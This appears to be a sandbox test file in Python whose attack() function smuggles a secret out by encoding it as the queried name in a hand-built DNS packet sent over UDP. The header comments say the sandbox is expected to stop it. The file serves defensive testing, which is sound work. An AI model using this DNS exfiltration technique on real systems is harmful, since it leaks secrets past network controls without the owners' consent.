"""Sends a secret as the name that a name server is asked for."""

# goal: is heard
# expect: stopped
# violation: socket
# control: unsandboxed

import socket
import struct


def attack():
    try:
        query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(mark)]) + mark.encode() + b"\0" + struct.pack(">2H", 1, 1)
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", udp_port))
    except OSError:
        return socket.getaddrinfo("localhost", 80) or socket.gethostbyname("example.invalid")
